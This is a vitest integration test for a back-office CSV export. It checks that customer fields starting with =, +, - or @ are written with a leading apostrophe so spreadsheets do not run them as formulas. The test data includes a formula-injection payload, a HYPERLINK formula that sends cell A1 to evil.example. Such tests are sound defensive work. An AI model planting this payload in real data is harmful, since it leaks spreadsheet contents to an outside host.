import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { signInAsStaff, unique } from '../test/staff-session'

await signInAsStaff()
const { request } = await import('./calls')
const { exportRows, toCsv } = await import('./csv-export')
const { EMPTY_LIST_STATE } = await import('./url-state')
const { adminTranslator, loadAdminDictionary } = await import('../i18n')
const { customers } = await import('../resources/customers/customers')

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'

describe("the back office's CSV export (what the list's export button downloads)", () => {
  it('writes a customer named with a formula as text, with the leading apostrophe, never as a live formula', async () => {
    const email = `${unique('it-formel')}@example.com`
    await request('/admin/customers', {
      method: 'POST',
      body: { email, first_name: FORMULA, last_name: '-Muster', phone: '+49 7231 1995', company_name: '@Goldhaus' },
    })
    const state = { ...EMPTY_LIST_STATE, q: email, columns: ['email', 'name', 'company_name', 'phone', 'has_account'] }
    const rows = await exportRows(customers, state, new AbortController().signal, () => {})
    expect(rows).toHaveLength(1)
    const csv = await toCsv(customers, state, rows, { t: adminTranslator('de', await loadAdminDictionary('de')), locale: 'de' })

    // what a spreadsheet reads: every cell as the file has it
    const [header, row] = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data
    const cell = (label: string) => row![header!.indexOf(label)]
    expect(cell('Name')).toBe(`'${FORMULA} -Muster`)
    expect(cell('Firma')).toBe("'@Goldhaus")
    expect(cell('Telefon')).toBe("'+49 7231 1995")
    expect(cell('E-Mail-Adresse')).toBe(email)
    // no cell of the file starts a formula
    for (const value of row!) expect(value, value).not.toMatch(/^ *[=+\-@\t\r]/)
  })
})
